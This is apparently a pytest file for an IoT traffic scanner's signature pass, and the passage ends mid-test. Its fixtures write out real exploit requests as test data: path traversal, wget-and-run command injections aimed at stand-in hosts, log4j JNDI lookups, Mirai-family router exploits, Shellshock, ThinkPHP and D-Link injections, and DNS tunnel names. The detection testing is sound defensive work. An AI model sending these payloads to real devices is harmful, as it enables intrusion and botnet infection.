"""The request pass: HTTP requests and DNS queries matched against signatures, joined to the main pass's flows."""

from __future__ import annotations

import contextlib
import csv
import random
import struct
from pathlib import Path

import pytest

from iotscan.capture.source import MeterConfig
from iotscan.detect.request_findings import PAIR_AFTER_MATCH_MS, PAIR_BEFORE_MATCH_MS, RequestFindings
from iotscan.detect.request_pass import (
    BOT_CHECKIN,
    METHODS,
    RequestPlugin,
    dns_query,
    flag_text,
    match_packet,
    match_query,
    match_request,
    named_hosts,
    read_requests,
    request_pass,
)
from iotscan.detect.request_signatures import SIGNATURES, signature
from iotscan.errors import IotscanError
from tests.conftest import DATASETS, NDPI_PCAPS, REPO, SAMPLES, dns_query_message, ndjson, require_shared, run_iotscan
from tests.frames import write_pcap, write_timed_pcap


def names(request: bytes) -> str | None:
    sig = signature(match_request(request))
    return None if sig is None else sig.name


@pytest.mark.parametrize(("request_bytes", "expected"), [
    (b"GET /cgi-bin/../../../../etc/passwd HTTP/1.1\r\nHost: cam\r\n\r\n", "path traversal"),
    (b"GET /img/%2e%2e%2f%2e%2e%2fwin.ini HTTP/1.1\r\n\r\n", "path traversal"),
    (b"GET /a%252e%252e%252fb HTTP/1.1\r\n\r\n", "path traversal"),  # encoded twice
    (b"GET /cgi-bin/ping.cgi?host=127.0.0.1;wget%20http://x/m%20-O%20/tmp/m;sh%20/tmp/m HTTP/1.1\r\n\r\n",
     "command injection"),
    (b"POST /luci/;stok=/locale?form=country&country=$(id>/tmp/x) HTTP/1.1\r\n\r\n", "command injection"),
    (b"GET /item.php?id=1+UNION+ALL+SELECT+user,pass+FROM+users HTTP/1.1\r\n\r\n", "SQL injection"),
    (b"GET /login?u=admin'%20or%20'1'='1 HTTP/1.1\r\n\r\n", "SQL injection"),
    (b"GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\n\r\n", "script injection"),
    (b"GET / HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${jndi:ldap://10.0.0.1:1389/a}\r\n\r\n", "JNDI lookup (log4j)"),
    (b"GET / HTTP/1.1\r\nUser-Agent: ${${lower:j}ndi:ldap://x/a}\r\n\r\n", "JNDI lookup (log4j)"),
    (b"GET /.env HTTP/1.1\r\nHost: shop\r\n\r\n", "secrets probe"),
    (b"GET /app/.git/config HTTP/1.1\r\n\r\n", "secrets probe"),
    # scanners: nmap -sV's 404 probe, and the user agents of nmap's scripts, masscan and zgrab
    (b"GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0\r\n\r\n", "nmap service probe"),
    (b"GET / HTTP/1.1\r\nHost: cam\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; "
     b"https://nmap.org/book/nse.html)\r\n\r\n", "scanner user agent"),
    (b"GET / HTTP/1.0\r\nUser-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)\r\n\r\n",
     "scanner user agent"),
    (b"GET / HTTP/1.1\r\nuser-agent: Mozilla/5.0 zgrab/0.x\r\n\r\n", "scanner user agent"),
    # a form's body in the segment of its headers (Mirai-family exploits of GPON and D-Link routers)
    (b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: r\r\nContent-Length: 115\r\n\r\n"
     b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://h/g+-O+/tmp/g;sh+/tmp/g`&ipv=0",
     "command injection (request body)"),
    (b"POST /command.php HTTP/1.1\r\n\r\ncmd=cd+/tmp+%26%26+wget+http://h/dlink+%26%26+sh+dlink",
     "command injection (request body)"),
    # tools that send exploit attempts: Nikto (whose every request carries its name) and sqlmap
    (b"GET /cgi-bin/test-cgi HTTP/1.1\r\nUser-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)\r\n\r\n",
     "exploit tool user agent"),
    (b"GET /item?id=1 HTTP/1.1\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n",
     "exploit tool user agent"),
    # THC Hydra's http-get module guessing a camera's password
    (b"GET / HTTP/1.1\r\nHost: 192.168.28.27\r\nUser-Agent: Mozilla/4.0 (Hydra)\r\n"
     b"Authorization: Basic cm9vdDp4Yw==\r\n\r\n", "password guessing tool user agent"),
    # IoT botnets' exploits, from their public proofs of concept: Huawei HG532 (CVE-2017-17215), Realtek SDK
    # miniigd (CVE-2014-8361), Netgear setup.cgi, JAWS DVRs, as Mirai's and Satori's variants send them
    (b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: 430\r\n\r\n<?xml version=\"1.0\" ?><s:Envelope><s:Body>"
     b"<u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 1.2.3.4 -l /tmp/m -r /m)</NewStatusURL></u:Upgrade></s:Body>",
     "command injection (request body)"),
    (b"POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"
     b"\r\n\r\n<NewInternalClient>`cd /var; wget http://1.2.3.4/x; chmod +x x; ./x`</NewInternalClient>",
     "command injection (request body)"),
    (b"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://1.2.3.4/x+-O+/tmp/x;sh+/tmp/x"
     b"&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n", "command injection"),
    (b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/jaws;sh+/tmp/jaws HTTP/1.1\r\n\r\n", "command injection"),
    (b"GET /cgi-bin/status HTTP/1.1\r\nHost: cam\r\nUser-Agent: () { :; }; /bin/bash -c 'cd /tmp; wget x'\r\n\r\n",
     "Shellshock (bash function definition in an HTTP header, CVE-2014-6271)"),
    (b"GET /cgi-bin/a HTTP/1.1\r\nReferer: () { ignored;}; echo; /bin/id\r\n\r\n",
     "Shellshock (bash function definition in an HTTP header, CVE-2014-6271)"),
    (b"GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x "
     b"HTTP/1.1\r\n\r\n", "ThinkPHP remote code execution (CVE-2018-20062)"),
    (b"POST /HNAP1/ HTTP/1.0\r\nHost: r\r\nSOAPAction: http://purenetworks.com/HNAP1/GetDeviceSettings/`cd /tmp "
     b"&& rm -rf * && wget http://h/x && sh x`\r\n\r\n", "D-Link HNAP SOAPAction command injection (CVE-2015-2051)"),
])
def test_requests_match_their_signature(request_bytes: bytes, expected: str) -> None:
    assert names(request_bytes) == expected


@pytest.mark.parametrize("request_bytes", [
    b"GET / HTTP/1.1\r\nHost: 192.168.1.10\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
    b"GET /api/v1/status?device=plug&on=1 HTTP/1.1\r\n\r\n",
    b"GET /search?q=union+station+select+menu HTTP/1.1\r\n\r\n",  # words, not an injection
    b"GET /static/app.js?v=3.2.1 HTTP/1.1\r\nReferer: http://cam/index.html\r\n\r\n",
    b"POST /upnp/control/basicevent1 HTTP/1.1\r\n"
    b"SOAPACTION: \"urn:Belkin:service:basicevent:1#SetBinaryState\"\r\n\r\n",
    b"GET /.environment/settings HTTP/1.1\r\n\r\n",
    b"GET /list?page=2&id=31&cat=books&sh=1&echo=off HTTP/1.1\r\n\r\n",  # parameters named like commands
    b"GET /shop;jsessionid=A1B2;id=7 HTTP/1.1\r\n\r\n",
    b"GET /player?onload=autoplay&title=O'Reilly+or+2+others HTTP/1.1\r\n\r\n",
    b"GET /description.xml HTTP/1.1\r\nHost: 192.168.1.20:80\r\n\r\n",
    b"POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nuser=bob&pass=a;b&remember=1",
    b"POST /api/v1/scene HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"name\": \"echo dot\", \"on\": true}",
    b"GET /docs/nmap-tutorial.html HTTP/1.1\r\nReferer: http://nmap.org/masscan-vs-zgrab\r\n\r\n",  # words
    b"GET",  # no target
    b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0 ()\r\n\r\n",
    b"POST /HNAP1/ HTTP/1.1\r\nSOAPAction: \"http://purenetworks.com/HNAP1/GetDeviceSettings\"\r\n\r\n",
    b"GET /index.php?s=/think/about HTTP/1.1\r\n\r\n",
])
def test_ordinary_requests_match_nothing(request_bytes: bytes) -> None:
    assert match_request(request_bytes) == 0


def test_signature_codes_are_stable_positions() -> None:
    # codes are stored in the model's feature rows: a signature keeps its number
    assert [s.name for s in SIGNATURES[:6]] == ["path traversal", "command injection", "SQL injection",
                                                "script injection", "JNDI lookup (log4j)", "secrets probe"]
    assert [s.name for s in SIGNATURES[6:9]] == ["DNS tunnel (NULL records)", "DNS tunnel (encoded names)",
                                                 "NULL/FIN/XMAS probe"]
    assert [s.name for s in SIGNATURES[9:13]] == ["nmap service probe", "scanner user agent",
                                                  "command injection (request body)", "exploit tool user agent"]
    assert [s.name for s in SIGNATURES[13:26]] == ["scanner SYN (window 1024, no DF)",
                                                 "ping without data (nmap host discovery)",
                                                 "IRC bot nick naming its CPU", "MQTT login refused", "SSH connection",
                                                 "password guessing tool user agent", "telnet login refused",
                                                 "shell script sent over TCP (a loader or a reverse shell)",
                                                 "Windows executable sent over TCP (a payload stage)",
                                                 "HTTP request head held open 5 s or more (slowloris)",
                                                 "BASHLITE (Gafgyt) bot check-in naming its CPU", "Mirai bot check-in",
                                                 "FTP login refused"]
    assert [s.name.split(" (")[0] for s in SIGNATURES[26:]] == [
        "Windows command shell banner sent over TCP", "id command output showing root sent over TCP",
        "Linux executable", "Shellshock", "ThinkPHP remote code execution", "D-Link HNAP SOAPAction command injection"]
    assert signature(0) is None and signature(len(SIGNATURES) + 1) is None
    family = {"target": "exploit", "head": "exploit", "body": "exploit", "dns": "c2", "tcp-flags": "scan",
              "syn": "scan", "echo": "scan", "line": "c2", "checkin": "c2", "ssh": "bruteforce", "reply": "bruteforce",
              "ftp-reply": "bruteforce"}
    assert [s.family for s in SIGNATURES[20:23]] == ["exploit", "c2", "dos"]
    assert all(s.family == family[s.where]
               for s in SIGNATURES[:9] + SIGNATURES[11:18] + SIGNATURES[19:20] + SIGNATURES[23:25])
    # what this release added: FTP refusals, shells' banners (c2), ELF files and IoT botnets' exploits (exploit)
    assert [s.family for s in SIGNATURES[25:]] == ["bruteforce", "c2", "c2", "exploit", "exploit", "exploit",
                                                   "exploit"]
    assert all(s.source for s in SIGNATURES[25:])  # each cites where it comes from
    assert SIGNATURES[24].reason == "a bot's check-in with its controller: Mirai bot check-in"
    assert SIGNATURES[18].family == "bruteforce" and SIGNATURES[18].reason == \
        "HTTP request matched a password guesser signature: password guessing tool user agent"
    assert SIGNATURES[16].reason == "MQTT login refused, 5 or more between the same two hosts within 10 minutes"
    assert all(s.family == "scan" and s.reason.startswith("HTTP request matched a scanner signature")
               for s in SIGNATURES[9:11])


def test_findings_join_flows_in_either_direction_and_within_their_lifetime() -> None:
    f = RequestFindings()
    f.add("10.0.0.2", 40000, "10.0.0.1", 80, 1_000, 3)
    assert f.code("10.0.0.2", 40000, "10.0.0.1", 80, 900, 1_500) == 3
    assert f.code("10.0.0.1", 80, "10.0.0.2", 40000, 900, 1_500) == 3  # the main flow seen the other way
    assert f.code("10.0.0.2", 40000, "10.0.0.1", 80, 5_000, 9_000) == 0  # same ports reused later
    assert f.code("10.0.0.2", 40001, "10.0.0.1", 80, 900, 1_500) == 0


def test_findings_stay_bounded_forgetting_the_oldest(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("iotscan.detect.request_findings.MAX_FINDINGS", 3)
    f = RequestFindings()
    for port in range(40000, 40005):
        f.add("10.0.0.2", port, "10.0.0.1", 80, 1_000, 1)
    assert (f.matched, f.kept, f.forgotten) == (5, 3, 2)
    assert f.code("10.0.0.2", 40000, "10.0.0.1", 80, 0, 2_000) == 0  # the oldest are gone
    assert f.code("10.0.0.2", 40004, "10.0.0.1", 80, 0, 2_000) == 1


def test_a_match_marks_the_two_hosts_flows_around_it_in_either_direction() -> None:
    f = RequestFindings()
    f.add("10.0.0.2", 40000, "10.0.0.1", 80, 100_000, 1)  # path traversal, from .2 to .1

    def pair(a: str, b: str, first_ms: int, last_ms: int) -> int:  # ports: another connection of the two hosts
        return f.pair_code(a, 41000, b, 8080, first_ms, last_ms)

    assert pair("10.0.0.2", "10.0.0.1", 90_000, 110_000) == 1  # the matching flow itself
    assert pair("10.0.0.1", "10.0.0.2", 150_000, 160_000) == 1  # a callback the other way, after it
    assert pair("10.0.0.2", "10.0.0.1", 0, 100_000 - PAIR_BEFORE_MATCH_MS) == 1  # ended just soon enough before
    assert pair("10.0.0.2", "10.0.0.1", 0, 100_000 - PAIR_BEFORE_MATCH_MS - 1) == 0
    assert pair("10.0.0.2", "10.0.0.1", 100_000 + PAIR_AFTER_MATCH_MS, 10**9) == 1  # started just soon enough after
    assert pair("10.0.0.2", "10.0.0.1", 100_000 + PAIR_AFTER_MATCH_MS + 1, 10**9) == 0
    assert pair("10.0.0.2", "10.0.0.3", 90_000, 110_000) == 0  # another host
    # matches arrive in the order the pass's flows expire, not in time order: the earliest in the window wins
    f.add("10.0.0.2", 40001, "10.0.0.1", 80, 50_000, 11)
    assert pair("10.0.0.1", "10.0.0.2", 40_000, 200_000) == 11 and pair("10.0.0.1", "10.0.0.2", 171_000, 171_000) == 1
    # a host's traffic with itself (loopback) is no pair of hosts: a match there marks the flows that share a port
    # with it on that host (its service's), not every flow of the host with itself
    f.add("127.0.0.1", 40002, "127.0.0.1", 8080, 100_000, 1)
    assert f.pair_code("127.0.0.1", 40003, "127.0.0.1", 8080, 90_000, 110_000) == 1  # the service's other flows
    assert f.pair_code("127.0.0.1", 8080, "127.0.0.1", 40002, 90_000, 110_000) == 1  # its own, either direction
    assert f.pair_code("127.0.0.1", 40003, "127.0.0.1", 631, 90_000, 110_000) == 0  # another service of the host
    assert f.marking_flow("127.0.0.1", 40003, "127.0.0.1", 8080, 90_000, 110_000, named=False) == \
        ("127.0.0.1", 40002, "127.0.0.1", 8080, 6)


def test_an_exploit_marks_its_victims_flows_to_the_hosts_its_request_names() -> None:
    # a log4j lookup and a command injection name the host the victim is to call: an LDAP server, a loader
    request = b"GET / HTTP/1.1\r\nHost: 172.16.238.10:8080\r\nX-Api-Version: ${jndi:ldap://172.16.238.11:1389/a}\r\n\r\n"
    assert named_hosts(request) == ("172.16.238.10", "172.16.238.11")
    assert named_hosts(b"GET /ping.cgi?h=1;wget%20http://10.0.0.99/m%20-O%20/tmp/m HTTP/1.1\r\n\r\n") == ("10.0.0.99",)
    assert named_hosts(b"GET /a?v=1.2.3.4.5&w=300.1.1.1&x=v1.2.3.4 HTTP/1.1\r\n\r\n") == ()  # no addresses
    assert len(named_hosts(b"GET /?" + b"&".join(b"h=10.0.0.%d" % i for i in range(9)) + b" HTTP/1.1\r\n\r\n")) == 4
    jndi = next(code for code, s in enumerate(SIGNATURES, start=1) if s.name == "JNDI lookup (log4j)")
    assert signature(jndi).names_hosts and not signature(9).names_hosts  # a probe names no host
    f = RequestFindings()
    f.add("172.16.238.1", 1984, "172.16.238.10", 8080, 100_000, jndi, named_hosts(request))
    named = f.named_code
    assert named("172.16.238.10", "172.16.238.11", 100_275, 118_000) == jndi  # the victim's LDAP lookup
    assert named("172.16.238.11", "172.16.238.10", 119_000, 119_100) == jndi  # either direction
    assert named("172.16.238.1", "172.16.238.11", 100_275, 118_000) == 0  # the attacker's own flows: the pair's
    assert named("172.16.238.10", "172.16.238.10", 100_275, 118_000) == 0 and len(f.by_named) == 1  # not itself
    assert named("172.16.238.10", "172.16.238.11", 100_000 + PAIR_AFTER_MATCH_MS + 1, 10**9) == 0
    assert f.pair_code("172.16.238.10", 41000, "172.16.238.11", 8080, 100_275, 118_000) == 0  # no pair of its own
    # what a person looks at next: the request that named the host (the marked flows' evidence_community_id)
    request_flow = ("172.16.238.1", 1984, "172.16.238.10", 8080, 6)
    assert f.marking_flow("172.16.238.11", 41000, "172.16.238.10", 8080, 119_000, 119_100, named=True) == request_flow
    assert f.marking_flow("172.16.238.1", 41000, "172.16.238.10", 8080, 100_000, 100_100, named=False) == request_flow
    assert f.marking_flow("172.16.238.10", 41000, "172.16.238.11", 8080, 100_275, 118_000, named=False) is None
    assert f.marking_flow("172.16.238.10", 41000, "172.16.238.11", 8080, 100_000 + PAIR_AFTER_MATCH_MS + 1, 10**9,
                          named=True) is None


def test_named_hosts_stay_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("iotscan.detect.request_findings.MAX_FINDINGS", 3)
    f = RequestFindings()
    for host in range(6):
        f.add("10.0.0.2", 40000 + host, "10.0.0.1", 80, 1_000, 2, (f"10.0.9.{host}",))
    assert f.named_kept == 3 and len(f.by_named) == 3


def test_a_dns_match_marks_no_pair() -> None:
    # a tunnel's two hosts are the client and its resolver, which carries every name the client looks up
    f = RequestFindings()
    tunnel = next(code for code, s in enumerate(SIGNATURES, start=1) if s.where == "dns")
    f.add("10.0.0.2", 53000, "10.0.0.53", 53, 1_000, tunnel)
    assert f.code("10.0.0.2", 53000, "10.0.0.53", 53, 0, 2_000) == tunnel
    assert f.pair_code("10.0.0.2", 41000, "10.0.0.53", 8080, 0, 2_000) == 0 and not f.by_pair
    assert [s.marks_pair for s in SIGNATURES] == [s.where != "dns" for s in SIGNATURES]


def test_marked_pairs_stay_bounded_forgetting_the_oldest(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("iotscan.detect.request_findings.MAX_FINDINGS", 3)
    f = RequestFindings()
    for host in range(1, 6):
        f.add("10.0.0.2", 40000, f"10.0.1.{host}", 80, 1_000, 1)
    assert f.pair_kept == 3 and len(f.by_pair) == 3
    assert f.pair_code("10.0.0.2", 41000, "10.0.1.1", 8080, 0, 2_000) == 0
    assert f.pair_code("10.0.0.2", 41000, "10.0.1.5", 8080, 0, 2_000) == 1


def _refusals(f: RequestFindings, times_s: list[int], code: int, first_port: int = 40000) -> None:
    """Refused logins from 10.0.0.9 at 10.0.0.1's broker, one connection each, at these seconds."""
    for i, t in enumerate(times_s):
        f.add("10.0.0.1", 1883, "10.0.0.9", first_port + i, t * 1000, code)  # the refusal comes from the server


def test_refused_logins_count_from_the_fifth_within_ten_minutes() -> None:
    refused = next(code for code, s in enumerate(SIGNATURES, start=1) if s.name == "MQTT login refused")
    sig = signature(refused)
    assert (sig.min_pair_count, sig.pair_window_ms) == (5, 600_000)  # fail2ban's maxretry and findtime
    f = RequestFindings()
    _refusals(f, [0, 100, 200, 300], refused)  # four: typos, or a device with a stale password
    assert f.kept == 0 and f.held_kept == 4 and not f.by_pair
    assert f.code("10.0.0.9", 40000, "10.0.0.1", 1883, 0, 1_000) == 0
    _refusals(f, [400], refused, first_port=40004)  # the fifth within ten minutes: all five count
    assert f.kept == 5 and f.held_kept == 0
    assert all(f.code("10.0.0.9", port, "10.0.0.1", 1883, 0, 500_000) == refused for port in range(40000, 40005))
    assert f.pair_code("10.0.0.9", 41000, "10.0.0.1", 8080, 0, 1_000) == refused  # and mark the two hosts' flows
    _refusals(f, [950], refused, first_port=40005)  # within ten minutes of the last that counted: at once
    assert f.kept == 6
    _refusals(f, [3000], refused, first_port=40006)  # long after: held back again
    assert f.kept == 6 and f.held_kept == 1
    spread = RequestFindings()
    _refusals(spread, [0, 200, 400, 600, 800, 1000], refused)  # never five within ten minutes
    assert spread.kept == 0 and spread.held_kept == 4
    again = RequestFindings()  # five refusals in one connection (live, a flow leaves the pass at each): one
    for t in range(5):
        again.add("10.0.0.1", 23, "10.0.0.9", 40000, t * 1000, refused)
    assert again.kept == 0 and again.held_kept == 1
    other = RequestFindings()  # five refusals, each from another client: no guessing between two hosts
    for host in range(5):
        other.add("10.0.0.1", 1883, f"10.0.0.{20 + host}", 40000, host * 1000, refused)
    assert other.kept == 0


def test_held_refusals_stay_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("iotscan.detect.request_findings.MAX_FINDINGS", 3)
    refused = next(code for code, s in enumerate(SIGNATURES, start=1) if s.name == "telnet login refused")
    f = RequestFindings()
    for host in range(10):
        f.add("10.0.0.1", 23, f"10.0.1.{host}", 40000, 1_000, refused)
    assert f.held_kept <= 3 and len(f.held) <= 3


def test_fuzzed_requests_never_raise() -> None:
    rng = random.Random(7)
    base = b"GET /cgi-bin/a.cgi?x=1;wget%20h HTTP/1.1\r\nUser-Agent: ${jndi:x}\r\n\r\n"
    plugin = RequestPlugin()

    class Flow:
        class udps:
            pass

    class Packet:  # a SidePacket's fields that the plugin reads
        ip_packet = b""
        direction, time = 0, 0

    for _ in range(2000):
        data = bytearray(base[: rng.randrange(len(base) + 1)])
        for _ in range(rng.randrange(4)):
            if data:
                data[rng.randrange(len(data))] = rng.randrange(256)
        match_request(bytes(data))
        # the plugin on a hand-built IPv4/TCP packet carrying the mangled bytes, and on garbage
        Packet.ip_packet = bytes([0x45, 0, 0, 0, 0, 0, 0, 0, 64, 6] + [0] * 10 + [0] * 12 + [0x50] + [0] * 7) + data
        plugin.on_init(Packet, Flow)
        Packet.ip_packet = bytes(rng.randrange(256) for _ in range(rng.randrange(80)))
        plugin.on_update(Packet, Flow)


def test_sample_exploits_are_attacks_with_the_signature_as_reason() -> None:
    proc = run_iotscan("analyze", SAMPLES / "web-sqli.pcap", SAMPLES / "log4j-exploit.pcap", "-f", "ndjson",
                       "--no-devices", check_code=0)
    flows = [r for r in ndjson(proc.stdout) if r["event_type"] == "flow"]
    by_reason: dict[str, list[dict]] = {}
    for r in flows:
        if r["reasons"] and r["reasons"][0].startswith("HTTP request matched an exploit signature"):
            by_reason.setdefault(r["reasons"][0].split(": ")[-1], []).append(r)
    # seven of the SQL-injection capture's nine requests carry SQL in the URL; log4j's lookup rides in a header
    assert len(by_reason.get("SQL injection", [])) == 7
    assert len(by_reason.get("JNDI lookup (log4j)", [])) >= 1
    for r in [r for group in by_reason.values() for r in group]:
        assert r["verdict"] == "attack" and r["family"] == "exploit" and r["score"] == 1.0
        assert r["protocol"] == 6 and r["dst_port"] in (80, 8080)


def test_the_other_flows_of_an_exploits_hosts_are_attacks_with_the_pair_as_reason() -> None:
    # the SQL-injection capture's two requests without SQL come from the same client within seconds
    proc = run_iotscan("analyze", SAMPLES / "web-sqli.pcap", "-f", "ndjson", "--no-devices", check_code=0)
    flows = [r for r in ndjson(proc.stdout) if r["event_type"] == "flow"]
    marked = [r for r in flows if r["reasons"] and r["reasons"][0].startswith("a flow between the same two hosts")]
    assert len(flows) == 9 and len(marked) == 2
    assert all(r["verdict"] == "attack" and r["family"] == "exploit" and r["score"] == 1.0 for r in flows)
    assert marked[0]["reasons"][0].endswith(": SQL injection")


def test_benign_samples_have_no_signature() -> None:
    proc = run_iotscan("analyze", SAMPLES / "tplink-hs110-setup.pcap", SAMPLES / "hue-bridge-setup.pcap",
                       "-f", "ndjson", "--no-devices", check_code=0)
    flows = [r for r in ndjson(proc.stdout) if r["event_type"] == "flow"]
    assert flows and not any(r["reasons"] and "signature" in r["reasons"][0] for r in flows)


def test_request_pass_reads_the_shared_exploits_and_no_benign_request() -> None:
    require_shared()
    # WebattackRCE is a Nikto run: its user agent gives away 673 of its 797 flows, its payloads the other 124 (62 of
    # them its Shellshock probes, "() { :; };" in a header)
    for name, expected in [("WebattackSQLinj.pcap", 7), ("WebattackRCE.pcap", 797), ("xss.pcap", 1),
                           ("sql_injection.pcap", 1), ("dotenv.pcap", 1), ("log4j-webapp-exploit.pcap", 1),
                           ("shell.pcap", 2), ("portable_executable.pcap", 2)]:
        path = str(NDPI_PCAPS / name)
        assert read_requests(path, MeterConfig(source=path)).matched == expected, name
    # every capture of the corpus the training manifest calls benign: no match counts (ssh.pcap's two SSH
    # connections are held back: five between two hosts within two minutes would count)
    benign = []
    with (REPO / "training" / "ndpi-corpus.csv").open() as f:
        for row in csv.DictReader(line for line in f if not line.startswith("#")):
            if row["label"] == "benign":
                benign.extend(sorted(NDPI_PCAPS.glob(row["path"])))
    requests = 0
    for path in benign:
        job, _ = request_pass(str(path), MeterConfig(source=str(path)))
        found = job.outcome()
        requests += job.report.flows  # request flows read (only matches leave the pass's meter)
        assert found.kept == 0 and not found.by_pair, (path.name, found.by_endpoints)
    # the corpus's benign captures do carry requests: 289 HTTP request flows and 326 DNS query flows
    assert requests > 550


def test_shared_irc_bot_and_files_sent_raw_are_attacks() -> None:
    require_shared()
    # IoT-23's Capture-34-1: a bot that registers "[ARM4T|...]" on its IRC server again and again
    path = DATASETS / "iot-23" / "CTU-IoT-Malware-Capture-34-1" / "2018-12-21-15-50-14-192.168.1.195.irc.pcap"
    proc = run_iotscan("analyze", path, "-f", "ndjson", "--no-devices", check_code=0)
    flows = [r for r in ndjson(proc.stdout) if r["event_type"] == "flow"]
    assert len(flows) > 4000
    c2 = [r for r in flows if r["verdict"] == "attack" and r["family"] == "c2"]
    assert len(c2) >= 0.95 * len(flows)
    own = [r for r in c2 if r["reasons"][0] == "a bot's command to its controller: IRC bot nick naming its CPU"]
    assert len(own) > 1500  # the others are the same two hosts' flows around them
    # the corpus's reverse shell (scripts sent to a listener) and Meterpreter stage (an executable on 4444)
    for name, family in [("shell.pcap", "exploit"), ("portable_executable.pcap", "c2")]:
        proc = run_iotscan("analyze", NDPI_PCAPS / name, "-f", "ndjson", "--no-devices", check_code=0)
        flows = [r for r in ndjson(proc.stdout) if r["event_type"] == "flow"]
        assert flows and all((r["verdict"], r["family"]) == ("attack", family) for r in flows), name



def test_shared_log4j_victims_callbacks_to_the_named_host_are_exploits() -> None:
    require_shared()
    # the JNDI request names 172.16.238.11, whose LDAP answer and exploit class the victim fetches; the
    # reverse shell it then opens goes to a host no request names
    proc = run_iotscan("analyze", NDPI_PCAPS / "log4j-webapp-exploit.pcap", "-f", "ndjson", "--no-devices",
                       check_code=0)
    flows = [r for r in ndjson(proc.stdout) if r["event_type"] == "flow"]
    callbacks = [r for r in flows if {r["src_ip"], r["dst_ip"]} == {"172.16.238.10", "172.16.238.11"}]
    assert len(callbacks) == 4 and {r["dst_port"] for r in callbacks} == {1389, 80}
    for r in callbacks:
        assert (r["verdict"], r["family"], r["score"]) == ("attack", "exploit", 1.0)
        assert r["reasons"][0] == "the other host was named in an exploit request this host received within " \
                                  "minutes: JNDI lookup (log4j)"


def test_request_pass_never_raises_on_the_corpus() -> None:
    # malformed and odd link types included: the pass fails with iotscan's own errors or not at all
    require_shared()
    for path in sorted(Path(NDPI_PCAPS).glob("*.pcap*")):
        with contextlib.suppress(IotscanError):
            read_requests(str(path), MeterConfig(source=str(path)))


def test_methods_are_four_bytes() -> None:
    assert all(len(m) == 4 for m in METHODS)  # the BPF compares the first four payload bytes


def dns_packet(name: str, qtype: int = 1, *, ipv6: bool = False, flags: int = 0x0100) -> bytes:
    """An IPv4 or IPv6 UDP datagram to port 53 carrying one DNS question (checksums and lengths left 0)."""
    udp = b"\xd4\x31\x00\x35\0\0\0\0" + dns_query_message(name, qtype, flags)
    if ipv6:
        return bytes([0x60, 0, 0, 0, 0, 0, 17, 64]) + bytes(32) + udp
    return bytes([0x45, 0, 0, 0, 0, 0, 0, 0, 64, 17, 0, 0, 10, 0, 0, 2, 10, 0, 0, 1]) + udp


@pytest.mark.parametrize(("packet", "expected"), [
    (dns_packet("Example.COM"), "example.com a"),
    (dns_packet("cam.local", 28, ipv6=True), "cam.local aaaa"),
    (dns_packet("a.pirate.sea", 10), "a.pirate.sea null"),
    (dns_packet("x.example", 99), "x.example type99"),
    (dns_packet("example.com", flags=0x8180), None),  # an answer
    (dns_packet("example.com", flags=0x2800), None),  # an update, not a standard query
    (dns_packet("example.com")[:-4], None),  # truncated before the type
    (dns_packet("example.com")[:40] + b"\xc0\x0c\0\x01\0\x01", None),  # a pointer where a query writes its name
    (bytes([0x45, 0, 0, 0, 0, 0, 0, 0, 64, 6]) + bytes(30), None),  # TCP
    (b"", None),
])
def test_dns_query_text(packet: bytes, expected: str | None) -> None:
    assert dns_query(packet) == expected


@pytest.mark.parametrize(("text", "expected"), [
    ("vaaaakardli.pirate.sea null", "DNS tunnel (NULL records)"),
    ("244300fdf525320021636f6d6d616e64202873697276696d65732900.skullseclabs.org mx", "DNS tunnel (encoded names)"),
    ("dnscat.546b03f50000000000a6023ed4df184d6ac5c2628b47714fdee584fed739.5a03b5b1e1aa8f.x txt",
     "DNS tunnel (encoded names)"),
    ("paaaaaaaabvgd5bpmfsgmzlfmruxomzngezdgnbvgy3tqojqgeydcmz.t.example.org cname", "DNS tunnel (encoded names)"),
    ("time.google.com a", None),
    ("d111111abcdef8.cloudfront.net aaaa", None),
    ("e0d67c509fb203858ebcb2fe3f88c2a.baas.nintendo.com a", None),  # 31 hex digits
    ("my-load-balancer-1234567890abcdef1234567890.us-west-2.elb.amazonaws.com a", None),  # hyphens
    ("_googlecast._tcp.local ptr", None),
    ("0123456789abcdef0123456789abcdef01234567 txt", None),  # a top-level label is no payload
])
def test_dns_signatures(text: str, expected: str | None) -> None:
    sig = signature(match_query(text))
    assert (None if sig is None else sig.name) == expected


def test_one_encoded_name_is_no_tunnel_three_are() -> None:
    plugin = RequestPlugin()

    class Flow:
        class udps:
            pass

    class Packet:  # a SidePacket's fields that the plugin reads
        ip_packet = dns_packet("e0d67c509fb203858ebcb2fe3f88c2aa.baas.nintendo.com")
        direction, time = 0, 1_000

    plugin.on_init(Packet, Flow)
    plugin.on_update(Packet, Flow)
    assert Flow.udps.request_signature == 0  # a hashed name, twice: some services name hosts so
    Packet.ip_packet = dns_packet("www.example.com")
    plugin.on_update(Packet, Flow)
    assert Flow.udps.request_signature == 0
    Packet.ip_packet = dns_packet("0123456789abcdef0123456789abcdef.t.example.org", 16)
    plugin.on_update(Packet, Flow)
